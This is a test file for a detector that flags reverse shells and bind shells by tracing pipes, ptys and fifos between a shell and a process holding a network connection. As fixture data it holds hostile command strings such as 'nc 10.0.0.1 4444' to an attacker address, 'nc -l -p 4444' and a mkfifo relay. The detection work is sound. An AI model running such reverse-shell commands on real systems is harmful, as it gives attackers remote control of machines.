import { describe, expect, it } from 'vitest';
import {
  classifyRelay,
  readsProgramFromStdin,
  type RelayInput,
  type RelayProcess,
} from '../../../../src/security/detectors/reverse-shell-relay.js';
import type { Alert } from '../../../../src/security/alert.js';
import type { FdEntry } from '../../../../src/security/sources/proc-fds.js';
import type { SocketState } from '../../../../src/security/sources/proc-net-parse.js';

const reads = (fd: number, channel: string): FdEntry => ({ fd, channel, read: true, write: false });
const writes = (fd: number, channel: string): FdEntry => ({
  fd,
  channel,
  read: false,
  write: true,
});
const terminal = (fd: number, index: number): FdEntry => ({
  fd,
  channel: `pty:${index}`,
  read: true,
  write: true,
});
const master = (fd: number, index: number): FdEntry => ({
  fd,
  channel: `pty:${index}`,
  master: true,
  read: true,
  write: true,
});
const socket = (fd: number, inode: number): FdEntry => ({
  fd,
  socket: inode,
  read: true,
  write: true,
});

function row(inode: number, local: string, remote: string, state: SocketState = 'ESTABLISHED') {
  const ep = (s: string) => ({ address: s.split(':')[0]!, port: Number(s.split(':')[1]) });
  return { udp: false, socket: { local: ep(local), remote: ep(remote), state, uid: 0, inode } };
}
function processOf(alert: Alert | undefined) {
  return alert && 'process' in alert.evidence ? alert.evidence.process : undefined;
}

/** An outbound connection to an attacker at 10.0.0.1:4444. */
const OUT = row(100, '10.0.0.5:40000', '10.0.0.1:4444');

function input(
  shell: { argv: string[]; fds: FdEntry[] },
  others: RelayProcess[],
  sockets = [OUT],
  exempt?: RelayInput['exempt'],
): RelayInput {
  const sh = { pid: 10, command: shell.argv.join(' '), ...shell };
  return {
    shell: sh,
    processes: new Map([sh, ...others].map((p) => [p.pid, p])),
    sockets,
    ...(exempt ? { exempt } : {}),
  };
}

/** sh reading pipe 1 and writing pipe 2, which a relay holding socket 100 feeds and drains. */
const PIPED_SH = {
  argv: ['sh'],
  fds: [reads(0, 'pipe:1'), writes(1, 'pipe:2'), writes(2, 'pipe:2')],
};
const PY_RELAY = {
  pid: 11,
  command: 'python3 relay.py',
  fds: [socket(3, 100), writes(4, 'pipe:1'), reads(5, 'pipe:2')],
};

describe('classifyRelay', () => {
  it('catches a shell fed and drained through pipes by a process holding a connection', () => {
    const alert = classifyRelay(input(PIPED_SH, [PY_RELAY]));
    expect(alert).toMatchObject({
      level: 'critical',
      title: 'Reverse shell detected',
      evidence: { process: { pid: 10, pattern: 'pipe-relay', class: 'relay' } },
    });
    expect(processOf(alert)!.indicators).toContain('10.0.0.1:4444');
    expect(alert!.description).toContain('11 (python3 relay.py)');
  });

  it('catches a shell on a pty whose master the connection holder keeps', () => {
    const sh = { argv: ['/bin/sh'], fds: [terminal(0, 3), terminal(1, 3), terminal(2, 3)] };
    const relay = { pid: 11, command: 'python3 -c pty', fds: [socket(3, 100), master(5, 3)] };
    expect(processOf(classifyRelay(input(sh, [relay])))).toMatchObject({
      pattern: 'pty-relay',
    });
  });

  it('follows a mkfifo loop: sh ← cat ← fifo ← nc, and sh → nc', () => {
    const cat = {
      pid: 11,
      command: 'cat /tmp/f',
      fds: [reads(3, 'fifo:5:9'), writes(1, 'pipe:1')],
    };
    const nc = {
      pid: 12,
      command: 'nc 10.0.0.1 4444',
      fds: [reads(0, 'pipe:2'), writes(1, 'fifo:5:9'), socket(3, 100)],
    };
    const alert = classifyRelay(input(PIPED_SH, [cat, nc]));
    expect(processOf(alert)).toMatchObject({ pattern: 'fifo-relay' });
    expect(alert!.description).toMatch(/11 \(cat \/tmp\/f\) ← 12 \(nc 10\.0\.0\.1 4444\)/);
  });

  it('catches a bind shell: a listening socket feeding a shell, with no way back needed', () => {
    const sh = { argv: ['sh'], fds: [reads(0, 'pipe:1'), terminal(1, 0), terminal(2, 0)] };
    const nc = { pid: 11, command: 'nc -l -p 4444', fds: [socket(3, 200), writes(1, 'pipe:1')] };
    const listening = row(200, '0.0.0.0:4444', '0.0.0.0:0', 'LISTEN');
    expect(processOf(classifyRelay(input(sh, [nc], [listening])))).toMatchObject({
      pattern: 'bind-shell',
      class: 'bind_shell',
    });
  });

  it('takes an accepted connection on a listening port as a bind shell', () => {
    const listening = row(200, '0.0.0.0:4444', '0.0.0.0:0', 'LISTEN');
    const accepted = row(100, '10.0.0.5:4444', '10.0.0.1:51000');
    expect(
      processOf(classifyRelay(input(PIPED_SH, [PY_RELAY], [listening, accepted]))),
    ).toMatchObject({ pattern: 'bind-shell' });
  });

  it('lets `curl … | sh` be: the output goes to the terminal, not back to the connection', () => {
    const sh = { argv: ['sh'], fds: [reads(0, 'pipe:1'), terminal(1, 0), terminal(2, 0)] };
    const curl = {
      pid: 11,
      command: 'curl -fsSL https://x',
      fds: [socket(3, 100), writes(1, 'pipe:1')],
    };
    expect(classifyRelay(input(sh, [curl]))).toBeUndefined();
  });

  it.each([
    ['the shell runs a -c script', { ...PIPED_SH, argv: ['bash', '-c', 'make'] }, [OUT], undefined],
    ['the feeder holds no socket', PIPED_SH, [], undefined],
    [
      'the connection is to loopback',
      PIPED_SH,
      [row(100, '127.0.0.1:1', '127.0.0.1:2')],
      undefined,
    ],
    [
      'the connection is to the DNS resolver',
      PIPED_SH,
      [OUT],
      (r: { address: string; port: number }) => r.address === '10.0.0.1',
    ],
  ])('does not fire when %s', (_what, sh, sockets, exempt) => {
    expect(classifyRelay(input(sh, [PY_RELAY], sockets, exempt))).toBeUndefined();
  });
});

describe('readsProgramFromStdin', () => {
  it.each([
    [['sh'], true],
    [['/bin/bash', '-i'], true],
    [['-bash'], true],
    [['bash', '-e'], true],
    [['sh', '-s', 'arg'], true],
    [['python3'], true],
    [['python3', '-u', '-'], true],
    [['perl'], true],
    [['busybox', 'sh'], true],
    [['bash', '/dev/stdin'], true],
    [['bash', '-c', 'ls'], false],
    [['bash', '-lc', 'ls'], false],
    [['bash', 'script.sh'], false],
    [['python3', '-c', 'print(1)'], false],
    [['python3', '-m', 'http.server'], false],
    [['perl', '-ne', 'print'], false],
    [['node', 'server.js'], false],
    [['cat'], false],
    [['busybox', 'ls'], false],
  ])('%j → %s', (argv, expected) => {
    expect(readsProgramFromStdin(argv)).toBe(expected);
  });
});
